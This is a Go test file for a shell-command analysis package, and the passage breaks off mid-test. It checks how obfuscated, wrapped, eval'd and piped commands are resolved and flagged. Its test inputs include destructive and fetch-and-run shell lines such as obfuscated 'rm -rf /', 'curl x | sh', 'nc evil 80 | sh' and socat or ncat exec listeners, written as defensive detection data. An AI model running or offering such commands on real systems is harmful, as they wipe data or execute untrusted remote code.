package shellparse

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// summary renders a command on one line for exact comparisons:
//
//	name arg… <- wrapper/wrapper src=name:class:via,… inline="…" paths=op:path[*],…
//
// A dynamic command is written $(DYN text).
func summary(c Command) string {
	var b strings.Builder
	switch {
	case c.Dynamic:
		fmt.Fprintf(&b, "$(DYN %s)", c.DynamicText)
	case strings.ContainsAny(c.Name, " \t\n"):
		fmt.Fprintf(&b, "%q", c.Name)
	default:
		b.WriteString(c.Name)
	}
	for _, a := range c.Args {
		b.WriteByte(' ')
		if a == "" || strings.ContainsAny(a, " \t\n\"") {
			b.WriteString(fmt.Sprintf("%q", a))
		} else {
			b.WriteString(a)
		}
	}
	if len(c.Wrappers) > 0 {
		b.WriteString(" <- " + strings.Join(c.Wrappers, "/"))
	}
	if len(c.Sources) > 0 {
		var s []string
		for _, src := range c.Sources {
			s = append(s, src.Name+":"+src.Class.String()+":"+src.Via)
		}
		b.WriteString(" src=" + strings.Join(s, ","))
	}
	if c.Inline != "" {
		fmt.Fprintf(&b, " inline=%q", c.Inline)
	}
	if len(c.Paths) > 0 {
		var s []string
		for _, p := range c.Paths {
			d := ""
			if p.Dynamic {
				d = "*"
			}
			s = append(s, p.Op.String()+":"+p.Path+d)
		}
		b.WriteString(" paths=" + strings.Join(s, ","))
	}
	return b.String()
}

func summaries(r *Result) []string {
	var out []string
	for _, c := range r.Commands {
		out = append(out, summary(c))
	}
	return out
}

var testOpts = Options{Cwd: "/w", Home: "/home/u"}

type analyzeCase struct {
	src  string
	want []string
}

func runCases(t *testing.T, cases []analyzeCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			r, err := Analyze(tc.src, testOpts)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			got := summaries(r)
			if !slices.Equal(got, tc.want) {
				t.Errorf("got:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(tc.want, "\n\t"))
			}
		})
	}
}

func TestStructure(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"git status", []string{"git status"}},
		{"a | b | c", []string{"a", "b src=a:other:pipe", "c src=a:other:pipe,b:other:pipe"}},
		{"a && b || c; d & e", []string{"a", "b", "c", "d", "e"}},
		{"(a; b)", []string{"a", "b"}},
		{"{ a; b; }", []string{"a", "b"}},
		{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}},
		{"for i in x y; do a $i; done", []string{"a x", "a y"}},                                 // unrolled: once per known word
		{"for i in *.c y; do a $i; done", []string{"a $i"}},                                     // a glob: the word is unknown
		{"for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17; do a $i; done", []string{"a $i"}}, // past 16 words
		{"for i in x y; do for j in 1 2; do a $i$j; done; done", []string{"a x1", "a x2", "a y1", "a y2"}},
		{"a $(echo x y) \"$(printf 'p q\\n\\n')\"", []string{"echo x y", "printf \"p q\\\\n\\\\n\"", "a x y \"p q\" src=echo:other:cmdsubst,printf:other:cmdsubst"}}, // known $(…) output, split unless quoted
		{"K=$(echo LmVudg== | base64 -d); cat $K", []string{"echo LmVudg==", "base64 -d src=echo:other:pipe", "cat .env src=echo:other:cmdsubst,base64:decoder:cmdsubst paths=read:/w/.env"}},
		{"a $(b)", []string{"b", "a $(b) src=b:other:cmdsubst"}},                                   // unknown output: as before
		{"X=; true && X=a && b $X && false && X=; c $X", []string{"true", "b a", "false", "c $X"}}, // the run may stop after X=a
		{"X=a; true && X=a && X=a; c $X", []string{"true", "c a"}},
		{"cd /x && a $PWD; cd y && b $PWD; cd $Z; c $PWD", []string{"cd /x", "a /x", "cd y", "b /x/y", "cd $Z", "c $PWD"}}, // cd sets PWD
		{"X=1; unset -f X; a $X; unset -v X; b ${X:-2}", []string{"unset -f X", "a 1", "unset -v X", "b 2"}},               // unset -f: functions only
		{"T=1; declare -n R=T; a $T; T=2; b $T; R=3; c $T", []string{"declare -n R=T", "a $T", "b 2", "c $T"}},             // R=3 assigns T
		{"v=; for i in x y; do v=$v$i; b $v; done; c $v", []string{"b x", "b xy", "c $v"}},                                 // in order; after it (a break?) unknown,
		{"for i in x; do a $i; done", []string{"a x"}},
		{"for ((i=0; i<$(n); i++)); do a; done", []string{"n", "a"}},
		{"while a; do b; done; until c; do d; done", []string{"a", "b", "c", "d"}},
		{"case $(a) in x) b;; $(c)) d;; esac", []string{"a", "b", "c", "d"}},
		{"f() { a; }", []string{"a"}},
		{"function f { a; }", []string{"a"}},
		{"coproc a", []string{"a"}},
		{"coproc NAME { a; }", []string{"a"}},
		{"time a", []string{"a"}},
		{"time -p a", []string{"a"}},
		{"! a", []string{"a"}},
		{"[[ $(a) == x ]]", []string{"a"}},
		{"[[ -f x && ( $(a) || -n \"`b`\" ) ]]", []string{"a", "b"}},
		{"(( $(a) + 1 ))", []string{"a"}},
		{"let x=$(a)+1", []string{"a"}},
		{"echo $(( $(a) * 2 ))", []string{"a", "echo \"$(( $(a) * 2 ))\" src=a:other:cmdsubst"}},
		{"export X=$(a)", []string{"a", "export X=$(a) src=a:other:cmdsubst"}},
		{"local y=`a`", []string{"a", "local y=`a` src=a:other:cmdsubst"}},
		{"declare -a arr=($(a) x)", []string{"a", "declare -a \"arr=($(a) x)\" src=a:other:cmdsubst"}},
		{"readonly R=1", []string{"readonly R=1"}},
		{"X=$(a) b", []string{"a", "b"}},
		{"arr=(x $(a) [3]=$(b))", []string{"a", "b"}},
		{"echo > $(a)", []string{"a", "echo paths=write:$(a)*"}},
		{"echo \"$(a)\"", []string{"a", "echo $(a) src=a:other:cmdsubst"}},
		{"echo ${x:-$(a)}", []string{"a", "echo ${x:-$(a)} src=a:other:cmdsubst"}},
		{"echo ${x/$(a)/`b`}", []string{"a", "b", "echo ${x/$(a)/`b`} src=a:other:cmdsubst,b:other:cmdsubst"}},
		{"echo ${arr[$(a)]}", []string{"a", "echo ${arr[$(a)]} src=a:other:cmdsubst"}},
		// >(b) reads what cat writes, so it comes after cat, fed by it.
		{"cat <(a) >(b)", []string{"a", "cat <(a) >(b) src=a:other:procsubst", "b src=a:other:pipe,cat:other:pipe"}},
		{"cat <<EOF\n$(a)\nEOF", []string{"a", "cat src=a:other:heredoc"}},
		{"cat <<'EOF'\n$(a)\nEOF", []string{"cat"}},
		{"cat <<< \"$(a)\"", []string{"a", "cat src=a:other:herestring"}},
		{"echo $(a $(b))", []string{"b", "a $(b) src=b:other:cmdsubst", "echo \"$(a $(b))\" src=b:other:cmdsubst,a:other:cmdsubst"}},
		{"x=1 > f", []string{": paths=write:/w/f"}},
		{"> f", []string{": paths=write:/w/f"}},
		{"{ a; b; } > f", []string{"a paths=write:/w/f", "b"}},
		{"trap 'rm -rf /tmp/x' EXIT", []string{"trap \"rm -rf /tmp/x\" EXIT", "rm -rf /tmp/x <- trap paths=delete:/tmp/x"}},
	})
}

// TestStructureFix checks the cases whose want above depends on how
// process substitutions in cat's operands are reported.
func TestNames(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"/usr/bin/git push", []string{"git push"}},
		{"g''it push", []string{"git push"}},
		{"\"git\" push", []string{"git push"}},
		{"\\git push", []string{"git push"}},
		{"'/usr/local/bin/git' push", []string{"git push"}},
		{"$'\\x67it' push", []string{"git push"}},
		{"$'\\147it' push", []string{"git push"}},
		{"g\"i\"t p'u'sh", []string{"git push"}},
		{"echo 'a b' \"c $'d'\" e\\ f $'g\\th'", []string{"echo \"a b\" \"c $'d'\" \"e f\" \"g\\th\""}},
		{"echo {a,b}c", []string{"echo ac bc"}},
		{"{rm,-rf,/}", []string{"rm -rf / paths=delete:/"}},
		{"echo {1..3}", []string{"echo 1 2 3"}},
		{"echo {1..100000}", []string{"echo {1..100000}"}},
		{"/bin/r? -rf /", []string{"$(DYN /bin/r?) -rf /"}},
		{"$cmd -rf /", []string{"$(DYN $cmd) -rf /"}},
		{"\"$(which rm)\" -rf /", []string{"which rm", "rm -rf / src=which:other:cmdsubst paths=delete:/"}},
		{"${X:-rm} -rf /", []string{"$(DYN ${X:-rm}) -rf /"}},
		{"\"\" x", []string{"$(DYN \"\") x"}},
		{"rm -rf \"$DIR\"/x", []string{"rm -rf $DIR/x paths=delete:$DIR/x*"}},
	})
}

func TestConstants(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"c=rm; $c -rf /", []string{"rm -rf / paths=delete:/"}},
		{"c=git; $c push --force", []string{"git push --force"}},
		{"X=/; rm -rf $X", []string{"rm -rf / paths=delete:/"}},
		{"X=/; rm -rf ${X}", []string{"rm -rf / paths=delete:/"}},
		{"export X=/etc; rm -rf \"$X\"", []string{"export X=/etc", "rm -rf /etc paths=delete:/etc"}},
		{"declare c=rm; $c x", []string{"declare c=rm", "rm x paths=delete:/w/x"}},
		{"local c=rm; readonly d=-rf; $c $d /", []string{"local c=rm", "readonly d=-rf", "rm -rf / paths=delete:/"}},
		{"c='git push --force'; $c", []string{"git push --force"}},
		{"c='git push --force'; \"$c\"", []string{"\"git push --force\""}},
		{"a=gi; b=t; $a$b push", []string{"git push"}},
		{"c=gi; c+=t; $c push", []string{"git push"}},
		{"CODE='rm xx-rf /'; eval \"${CODE/xx/}\"", []string{"eval \"rm -rf /\"", "rm -rf / <- eval paths=delete:/"}},
		{"X=abc; echo ${#X} ${X:1:1} ${X#a} ${X%c} ${Y:-d} ${X:+e}", []string{"echo 3 b bc ab ${Y:-d} e"}},
		{"if x; then c=rm; fi; $c -rf /", []string{"x", "rm -rf / paths=delete:/"}},
		{"if x; then c=rm; else c=ls; fi; $c -rf /", []string{"x", "$(DYN $c) -rf /"}},
		{"c=ls; x && c=rm; $c y", []string{"x", "$(DYN $c) y"}},
		{"(c=rm); $c -rf /", []string{"$(DYN $c) -rf /"}},
		{"c=rm; unset c; $c x", []string{"unset c", "x"}},
		{"unset x; eval \"${x:-rm -rf /}\"", []string{"unset x", "eval \"rm -rf /\"", "rm -rf / <- eval paths=delete:/"}},
		{"unset t; rm -rf \"${t:-/}\" ${t:+x}", []string{"unset t", "rm -rf / paths=delete:/"}},
		{"eval \"${x:-rm -rf /}\"", []string{"eval \"${x:-rm -rf /}\"", "$(DYN ${x:-rm -rf /}) <- eval"}},
		{"IFS=:; T='rm:-rf:/'; $T", []string{"rm -rf / paths=delete:/"}},
		{"IFS=$1; T='rm:-rf:/'; $T", []string{"$(DYN $T)"}},
		{"A=rm; declare A=echo B=$A; $B x", []string{"declare A=echo B=rm", "rm x paths=delete:/w/x"}},
		{"declare T={echo,rm}; $T x", []string{"declare T={echo,rm}", "$(DYN $T) x"}},
		{"T=echo; true && T=rm || T=echo; $T -rf /", []string{"true", "$(DYN $T) -rf /"}},
		{"a && cd / && rm -rf etc", []string{"a", "cd /", "rm -rf etc paths=delete:/etc"}},
		{"a && cd / || rm -rf etc", []string{"a", "cd /", "rm -rf etc paths=delete:etc*"}},
		{"c=rm; read c; $c x", []string{"read c", "$(DYN $c) x"}},
		{"c=$(curl x); $c", []string{"curl x", "$(DYN $c) src=curl:network:cmdsubst"}},
		{"X=$(curl x); eval \"$X\"", []string{"curl x", "eval $X src=curl:network:cmdsubst", "$(DYN $X) <- eval src=curl:network:cmdsubst"}},
		{"c=rm X=1 $c", []string{"$(DYN $c)"}},
		{"rm -rf $HOME/x ~/y ~", []string{"rm -rf /home/u/x /home/u/y /home/u paths=delete:/home/u/x,delete:/home/u/y,delete:/home/u"}},
		{"echo '~' \"~\" ~user ~+/x", []string{"echo ~ ~ /home/user /w/x"}},
		{"for c in rm; do $c -rf /; done", []string{"rm -rf / paths=delete:/"}},
		{"eval 'c=rm'; $c x", []string{"eval c=rm", "rm x paths=delete:/w/x"}},
		{"declare -l c=RM; $c x", []string{"declare -l c=RM", "$(DYN $c) x"}},
		{"X=1; ((X++)); echo $X", []string{"echo $X"}},
	})
}

func TestWrappers(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"sudo -u root env FOO=1 nice -n 5 git push -f", []string{
			"sudo -u root env FOO=1 nice -n 5 git push -f",
			"env FOO=1 nice -n 5 git push -f <- sudo",
			"nice -n 5 git push -f <- sudo/env",
			"git push -f <- sudo/env/nice",
		}},
		{"sudo -E -H -- git push", []string{"sudo -E -H -- git push", "git push <- sudo"}},
		{"sudo -uroot FOO=1 git push", []string{"sudo -uroot FOO=1 git push", "git push <- sudo"}},
		{"sudo -l git push", []string{"sudo -l git push"}},
		{"doas -u root rm x", []string{"doas -u root rm x", "rm x <- doas paths=delete:/w/x"}},
		{"env -i -u HOME -C /tmp FOO=bar rm x", []string{"env -i -u HOME -C /tmp FOO=bar rm x", "rm x <- env paths=delete:/tmp/x"}},
		{"env -S 'git push -f'", []string{"env -S \"git push -f\"", "git push -f <- env"}},
		{"env --split-string='FOO=1 git push' -f", []string{"env \"--split-string=FOO=1 git push\" -f", "git push -f <- env"}},
		{"env", []string{"env"}},
		{"nice -5 ionice -c 3 -n 7 git gc", []string{"nice -5 ionice -c 3 -n 7 git gc", "ionice -c 3 -n 7 git gc <- nice", "git gc <- nice/ionice"}},
		{"ionice -p 123", []string{"ionice -p 123"}},
		{"timeout -s KILL -k 5 10s git push", []string{"timeout -s KILL -k 5 10s git push", "git push <- timeout"}},
		{"\\time -f %e -o t.txt git push", []string{"time -f %e -o t.txt git push", "git push <- time"}},
		{"stdbuf -oL -e 0 git push", []string{"stdbuf -oL -e 0 git push", "git push <- stdbuf"}},
		{"chrt -f 99 git push", []string{"chrt -f 99 git push", "git push <- chrt"}},
		{"taskset -c 0,1 git push", []string{"taskset -c 0,1 git push", "git push <- taskset"}},
		{"setsid -f nohup git push", []string{"setsid -f nohup git push", "nohup git push <- setsid", "git push <- setsid/nohup"}},
		{"flock /tmp/l git push", []string{"flock /tmp/l git push", "git push <- flock"}},
		{"flock -w 5 /tmp/l -c 'git push'", []string{"flock -w 5 /tmp/l -c \"git push\"", "git push <- flock"}},
		{"watch -n 1 'git push'", []string{"watch -n 1 \"git push\"", "git push <- watch"}},
		{"command -v git", []string{"command -v git"}},
		{"command -p git push", []string{"command -p git push", "git push <- command"}},
		{"builtin eval 'git push'", []string{"builtin eval \"git push\"", "eval \"git push\" <- builtin", "git push <- builtin/eval"}},
		{"exec -a x git push", []string{"exec -a x git push", "git push <- exec"}},
		{"xargs -0 -n1 -P4 -I{} rm {}", []string{"xargs -0 -n1 -P4 -I{} rm {}", "rm \"{xargs input}\" <- xargs paths=delete:{xargs input}*"}},
		{"xargs -i -L 1 -d '\\n' -a list.txt -s 100 -E END -r -t -p git push", []string{"xargs -i -L 1 -d \\n -a list.txt -s 100 -E END -r -t -p git push paths=read:/w/list.txt", "git push <- xargs"}},
		{"xargs", []string{"xargs", "echo \"{xargs input}\" <- xargs"}},
		{"echo / | xargs rm -rf", []string{"echo /", "xargs rm -rf src=echo:other:pipe", "rm -rf / <- xargs src=echo:other:pipe paths=delete:/"}},
		{"printf 'a\nb\n' | xargs -I% git push % -f", []string{"printf \"a\\nb\\n\"", "xargs -I% git push % -f src=printf:other:pipe", "git push a -f <- xargs src=printf:other:pipe", "git push b -f <- xargs src=printf:other:pipe"}},
		{"parallel -j 4 git push ::: a b", []string{"parallel -j 4 git push ::: a b", "git push a <- parallel", "git push b <- parallel"}},
		{"parallel 'rm -rf {}' ::: /", []string{"parallel \"rm -rf {}\" ::: /", "rm -rf / <- parallel paths=delete:/"}},
		{"find . -name x -exec rm {} \\; -execdir git push {} +", []string{
			"find . -name x -exec rm {} ; -execdir git push {} + paths=read:/w,delete:/w/**/x",
			"rm ./x <- find -exec paths=delete:/w/x",
			"git push ./x <- find -execdir",
		}},
		{"find /tmp -delete", []string{"find /tmp -delete paths=delete:/tmp"}},
		// A primary's value is not an action; -exec rm deletes under the start.
		{"find . -fprintf out -delete", []string{"find . -fprintf out -delete paths=write:/w/out,read:/w"}},
		{"find . -gid -delete -print", []string{"find . -gid -delete -print paths=read:/w"}},
		{"find . -newermt -delete", []string{"find . -newermt -delete paths=read:/w"}},
		{"find d -exec sudo rm -f {} +", []string{"find d -exec sudo rm -f {} + paths=delete:/w/d", "sudo rm -f {} <- find -exec", "rm -f {} <- find -exec/sudo paths=delete:{}*"}},
		{"fd -e tmp -x rm", []string{"fd -e tmp -x rm", "rm <- fd -x"}},
		{"su -l root -c 'rm -rf /'", []string{"su -l root -c \"rm -rf /\"", "rm -rf / <- su paths=delete:/"}},
		{"runuser -u nobody -- git push", []string{"runuser -u nobody -- git push", "git push <- runuser"}},
		{"runuser -l nobody -c 'git push'", []string{"runuser -l nobody -c \"git push\"", "git push <- runuser"}},
		{"script -q -c 'git push' /dev/null", []string{"script -q -c \"git push\" /dev/null", "git push <- script"}},
		{"busybox sh -c 'rm x'", []string{"busybox sh -c \"rm x\"", "sh -c \"rm x\" <- busybox", "rm x <- busybox/sh -c paths=delete:/w/x"}},
		{"docker exec -it -u root -w /app c rm -rf /", []string{"docker exec -it -u root -w /app c rm -rf /", "rm -rf / <- docker exec paths=delete:/"}},
		{"docker run --rm -v /:/h -e X=1 ubuntu rm -rf /h", []string{"docker run --rm -v /:/h -e X=1 ubuntu rm -rf /h", "rm -rf /h <- docker run paths=delete:/"}},
		{"docker run --rm alpine rm -rf /var/cache/apk", []string{"docker run --rm alpine rm -rf /var/cache/apk", "rm -rf /var/cache/apk <- docker run"}},
		{"docker run --rm --privileged alpine rm -rf /var/x", []string{"docker run --rm --privileged alpine rm -rf /var/x", "rm -rf /var/x <- docker run paths=delete:/var/x"}},
		{"docker run -v /srv/a:/a -w /a img rm -rf b", []string{"docker run -v /srv/a:/a -w /a img rm -rf b", "rm -rf b <- docker run paths=delete:/srv/a/b"}},
		{"docker compose exec web rm x", []string{"docker compose exec web rm x", "rm x <- docker exec paths=delete:x"}},
		{"kubectl -n prod exec -it pod -c app -- rm -rf /", []string{"kubectl -n prod exec -it pod -c app -- rm -rf /", "rm -rf / <- kubectl exec paths=delete:/"}},
		{"ssh -i k -p 22 user@host git push -f", []string{"ssh -i k -p 22 user@host git push -f", "git push -f <- ssh"}},
		// socat and netcat start programs: EXEC words, SYSTEM / --sh-exec strings.
		{"socat - EXEC:'rm -rf x',pty", []string{"socat - \"EXEC:rm -rf x,pty\"", "rm -rf x <- socat EXEC paths=delete:/w/x"}},
		{"socat TCP-LISTEN:1 SYSTEM:'a | b'", []string{"socat TCP-LISTEN:1 \"SYSTEM:a | b\"", "a <- socat SYSTEM", "b <- socat SYSTEM src=a:other:pipe"}},
		{"ncat -l --sh-exec 'a; b' 1", []string{"ncat -l --sh-exec \"a; b\" 1", "a <- ncat --sh-exec", "b <- ncat --sh-exec"}},
		{"nc -l -e /bin/cat 1", []string{"nc -l -e /bin/cat 1", "cat <- nc -e"}},
		{"ssh host 'cd /x && rm -rf y'", []string{"ssh host \"cd /x && rm -rf y\"", "cd /x <- ssh", "rm -rf y <- ssh paths=delete:/x/y"}},
		{"ssh -N -L 80:x:80 host", []string{"ssh -N -L 80:x:80 host"}},
		{"unbuffer caffeinate -i proxychains4 -q torsocks git push", []string{
			"unbuffer caffeinate -i proxychains4 -q torsocks git push",
			"caffeinate -i proxychains4 -q torsocks git push <- unbuffer",
			"proxychains4 -q torsocks git push <- unbuffer/caffeinate",
			"torsocks git push <- unbuffer/caffeinate/proxychains4",
			"git push <- unbuffer/caffeinate/proxychains4/torsocks",
		}},
		{"uv run --with x pytest", []string{"uv run --with x pytest", "pytest <- uv run"}},
		{"npx -y rimraf /", []string{"npx -y rimraf /", "rimraf / <- npx", "rm -rf -- / <- npx/rimraf paths=delete:/"}},
		{"nix-shell -p git --run 'git push'", []string{"nix-shell -p git --run \"git push\"", "git push <- nix-shell"}},
		{"pkexec --user root git push", []string{"pkexec --user root git push", "git push <- pkexec"}},
	})
}

func TestShells(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"bash -c 'git push'", []string{"bash -c \"git push\"", "git push <- bash -c"}},
		{"bash -c '\"$@\"' _ rm -rf /", []string{"bash -c \"\\\"$@\\\"\" _ rm -rf /", "rm -rf / <- bash -c paths=delete:/"}},
		{"bash -c '$1 $2' _ 'git push' -f", []string{"bash -c \"$1 $2\" _ \"git push\" -f", "git push -f <- bash -c"}},
		{"bash -c 'IFS=,; $*' _ 'rm,-rf,/'", []string{"bash -c \"IFS=,; $*\" _ rm,-rf,/", "rm -rf / <- bash -c paths=delete:/"}},
		{"bash -c 'f() { rm \"$1\"; }' _ x", []string{"bash -c \"f() { rm \\\"$1\\\"; }\" _ x", "rm $1 <- bash -c paths=delete:$1*"}},
		{"bash -c 'IFS=,; \"$*\"' _ rm -rf /", []string{"bash -c \"IFS=,; \\\"$*\\\"\" _ rm -rf /", "rm,-rf,/ <- bash -c"}},
		{"gawk --file=\"$F\" x", []string{"gawk --file=$F x paths=read:$F*,read:/w/x"}},
		{"zsh -ocorrect -c '$1' _ 'git push'", []string{"zsh -ocorrect -c $1 _ \"git push\"", "git push <- zsh -c"}},
		{"bash -lc 'git push'", []string{"bash -lc \"git push\"", "git push <- bash -c"}},
		{"sh -ec 'git push'", []string{"sh -ec \"git push\"", "git push <- sh -c"}},
		{"bash -l -e -o pipefail -c 'git push' name arg", []string{"bash -l -e -o pipefail -c \"git push\" name arg", "git push <- bash -c"}},
		{"bash -euo pipefail -c 'git push'", []string{"bash -euo pipefail -c \"git push\"", "git push <- bash -c"}},
		{"zsh --login -c 'git push'", []string{"zsh --login -c \"git push\"", "git push <- zsh -c"}},
		{"bash --rcfile x -c 'git push'", []string{"bash --rcfile x -c \"git push\"", "git push <- bash -c"}},
		{"dash -xc 'git push'", []string{"dash -xc \"git push\"", "git push <- dash -c"}},
		{"bash script.sh arg", []string{"bash script.sh arg paths=read:/w/script.sh"}},
		{"source ./env.sh", []string{"source ./env.sh paths=read:/w/env.sh"}},
		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst", "$(DYN <(curl x)) <- . src=curl:network:procsubst"}},
		{"bash -c \"$x\"", []string{"bash -c $x", "$(DYN $x) <- bash -c"}},
		{"sh -c \"git push $REMOTE --force\"", []string{"sh -c \"git push $REMOTE --force\"", "$(DYN git push $REMOTE --force) <- sh -c", "git push $REMOTE --force <- sh -c"}},
		{"eval \"$x\"", []string{"eval $x", "$(DYN $x) <- eval"}},
		{"eval git push", []string{"eval git push", "git push <- eval"}},
		{"bash -c 'if'", []string{"bash -c if", "$(DYN if) <- bash -c"}},
		{"bash <<EOF\ngit push\nEOF", []string{"bash", "git push <- bash"}},
		{"bash <<'EOF'\ngit push $X\nEOF", []string{"bash", "git push $X <- bash"}},
		{"X=origin; bash <<EOF\ngit push $X\nEOF", []string{"bash", "git push origin <- bash"}},
		{"bash <<EOF\ngit push $X\nEOF", []string{"bash", "$(DYN git push $X\n) <- bash", "git push $X <- bash"}},
		{"bash <<< 'git push'", []string{"bash", "git push <- bash"}},
		{"bash <<< \"$(curl x)\"", []string{"curl x", "bash src=curl:network:herestring", "$(DYN $(curl x)\n) <- bash src=curl:network:herestring"}},
		{"echo 'git push' | bash", []string{"echo \"git push\"", "bash src=echo:other:pipe", "git push <- bash src=echo:other:pipe"}},
		{"echo -e 'git\\x20push' | sh", []string{"echo -e git\\x20push", "sh src=echo:other:pipe", "git push <- sh src=echo:other:pipe"}},
		{"printf '%s %s\\n' git push | sh", []string{"printf \"%s %s\\\\n\" git push", "sh src=printf:other:pipe", "git push <- sh src=printf:other:pipe"}},
		{"printf 'git push' | sudo bash -s", []string{"printf \"git push\"", "sudo bash -s src=printf:other:pipe", "bash -s <- sudo src=printf:other:pipe", "git push <- sudo/bash src=printf:other:pipe"}},
		{"echo Z2l0IHB1c2g= | base64 -d | sh", []string{"echo Z2l0IHB1c2g=", "base64 -d src=echo:other:pipe", "sh src=echo:other:pipe,base64:decoder:pipe", "git push <- sh src=echo:other:pipe,base64:decoder:pipe"}},
		{"cat <<EOF | sh\ngit push\nEOF", []string{"cat", "sh src=cat:other:pipe", "git push <- sh src=cat:other:pipe"}},
		{"echo $X | bash", []string{"echo $X", "bash src=echo:other:pipe", "$(DYN $X\n) <- bash src=echo:other:pipe"}},
		{"bash -c 'bash -c \"bash -c \\\"git push\\\"\"'", []string{
			"bash -c \"bash -c \\\"bash -c \\\\\\\"git push\\\\\\\"\\\"\"",
			"bash -c \"bash -c \\\"git push\\\"\" <- bash -c",
			"bash -c \"git push\" <- bash -c/bash -c",
			"git push <- bash -c/bash -c/bash -c",
		}},
	})
}

func TestSources(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"curl -fsSL https://x | sh", []string{"curl -fsSL https://x", "sh src=curl:network:pipe"}},
		{"wget -O- x | sudo bash -s", []string{"wget -O- x", "sudo bash -s src=wget:network:pipe", "bash -s <- sudo src=wget:network:pipe"}},
		{"curl x | tee f | sh", []string{"curl x", "tee f src=curl:network:pipe paths=write:/w/f", "sh src=curl:network:pipe,tee:other:pipe"}},
		{"bash <(curl x)", []string{"curl x", "bash \"<(curl x)\" src=curl:network:procsubst"}},
		{"sh -c \"$(wget -qO- x)\"", []string{"wget -qO- x", "sh -c \"$(wget -qO- x)\" src=wget:network:cmdsubst", "$(DYN $(wget -qO- x)) <- sh -c src=wget:network:cmdsubst"}},
		{"python3 -c \"$(curl x)\"", []string{"curl x", "python3 -c \"$(curl x)\" src=curl:network:cmdsubst inline=\"$(curl x)\"", "$(DYN $(curl x)) <- python3 -c src=curl:network:cmdsubst"}},
		{"curl x | python3", []string{"curl x", "python3 src=curl:network:pipe"}},
		{"base64 -d payload | bash", []string{"base64 -d payload paths=read:/w/payload", "bash src=base64:decoder:pipe"}},
		{"xxd -r -p x | sh", []string{"xxd -r -p x paths=read:/w/x", "sh src=xxd:decoder:pipe"}},
		{"openssl enc -d -aes256 -in x | sh", []string{"openssl enc -d -aes256 -in x paths=read:/w/x", "sh src=openssl:decoder:pipe"}},
		{"gpg -d x.gpg | sh", []string{"gpg -d x.gpg", "sh src=gpg:decoder:pipe"}},
		{"zcat x.gz | sh", []string{"zcat x.gz paths=read:/w/x.gz", "sh src=zcat:decoder:pipe"}},
		{"nc evil 80 | sh", []string{"nc evil 80", "sh src=nc:network:pipe"}},
		{"sudo curl x | sh", []string{"sudo curl x", "curl x <- sudo", "sh src=sudo:other:pipe,curl:network:pipe"}},
		{"curl x | sudo -E env bash", []string{"curl x", "sudo -E env bash src=curl:network:pipe", "env bash <- sudo src=curl:network:pipe", "bash <- sudo/env src=curl:network:pipe"}},
		// Process substitutions carry data like pipes: <(…) as a shell's
		// script or stdin, >(…) fed by what its statement writes.
		{"bash <(echo ls)", []string{"echo ls", "bash \"<(echo ls)\" src=echo:other:procsubst", "ls <- bash"}},
		{"bash < <(printf ls)", []string{"printf ls", "bash src=printf:other:procsubst", "ls <- bash src=printf:other:procsubst"}},
		{"echo ls > >(sh)", []string{"echo ls", "sh src=echo:other:pipe", "ls <- sh src=echo:other:pipe"}},
		{"echo ls | tee -a >(sh) log", []string{"echo ls", "tee -a >(sh) log src=echo:other:pipe paths=write:/w/log", "sh src=tee:other:pipe,echo:other:pipe", "ls <- sh src=tee:other:pipe,echo:other:pipe"}},
		{"exec 3> >(sh)", []string{"exec", "sh src=exec:other:pipe", "$(DYN >(sh)) <- sh src=exec:other:pipe"}},
		{"{ echo ls; cat f; } | sh", []string{"echo ls", "cat f paths=read:/w/f", "sh src=echo:other:pipe,cat:other:pipe", "$(DYN ls\n\n) <- sh src=echo:other:pipe,cat:other:pipe", "ls <- sh src=echo:other:pipe,cat:other:pipe"}},
		{"source -p /opt x.sh", []string{"source -p /opt x.sh paths=read:/w/x.sh"}},
		// source <(…) runs what the substitution prints, like eval "$(…)".
		{"source <(wget -O- x)", []string{"wget -O- x", "source \"<(wget -O- x)\" src=wget:network:procsubst", "$(DYN <(wget -O- x)) <- source src=wget:network:procsubst"}},
		{"bash < <(curl x)", []string{"curl x", "bash src=curl:network:procsubst"}},
		{"lynx -dump x | sh", []string{"lynx -dump x", "sh src=lynx:network:pipe"}},
		{"python3 -c 'import base64,os;os.system(base64.b64decode(\"eA==\"))' | sh", []string{
			"python3 -c \"import base64,os;os.system(base64.b64decode(\\\"eA==\\\"))\" inline=\"import base64,os;os.system(base64.b64decode(\\\"eA==\\\"))\"",
			"$(DYN system(base64.b64decode(\"eA==\"))) <- python3 -c",
			"sh src=python3:decoder:pipe",
		}},
	})
}

func TestInline(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"python -c 'print(1)'", []string{"python -c print(1) inline=\"print(1)\""}},
		{"python3 -Bc 'print(1)'", []string{"python3 -Bc print(1) inline=\"print(1)\""}},
		{"python3.12 -W ignore -c 'print(1)'", []string{"python3.12 -W ignore -c print(1) inline=\"print(1)\""}},
		{"python -m http.server", []string{"python -m http.server"}},
		{"python script.py", []string{"python script.py paths=read:/w/script.py"}},
		{"perl -ne 'print' f", []string{"perl -ne print f inline=\"print\" paths=read:/w/f"}},
		{"perl -pi -e 's/a/b/' f", []string{"perl -pi -e s/a/b/ f inline=\"s/a/b/\" paths=write:/w/f"}},
		{"ruby -e 'puts 1'", []string{"ruby -e \"puts 1\" inline=\"puts 1\""}},
		{"node -e 'x()'", []string{"node -e x() inline=\"x()\""}},
		{"node --eval='x()'", []string{"node --eval=x() inline=\"x()\""}},
		{"node -p '1+1'", []string{"node -p 1+1 inline=\"1+1\""}},
		{"deno eval 'x()'", []string{"deno eval x() inline=\"x()\""}},
		{"php -r 'x();'", []string{"php -r x(); inline=\"x();\""}},
		{"lua -e 'x()'", []string{"lua -e x() inline=\"x()\""}},
